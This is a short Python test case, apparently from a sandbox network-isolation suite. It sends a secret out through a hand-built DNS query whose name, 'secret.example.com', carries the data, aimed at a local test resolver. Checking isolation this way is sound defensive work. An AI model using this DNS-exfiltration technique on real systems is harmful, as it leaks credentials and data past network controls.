# /// attack
# guarantee = "network"
# summary = "Carries a secret out in the name that it asks a resolver for."
# reference = "RFC 1035; CWE-385"
# success = "the resolver has heard the question"
# stage = ["udp"]
# observe = ["heard"]
# refusal = { process = "denied EACCES", default = "errno" }
# ///

import socket
import struct

from kit import attempt, succeeded, target

name = b"".join(bytes([len(part)]) + part for part in (b"secret", b"example", b"com", b""))
question = struct.pack(">HHHHHH", 1, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
resolver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
resolver.settimeout(2)
attempt(lambda: resolver.connect(("127.0.0.1", int(target("PORT")))), "ENETUNREACH")
attempt(lambda: resolver.send(question), "ECONNREFUSED")
attempt(lambda: resolver.recv(100), "ECONNREFUSED")
succeeded()
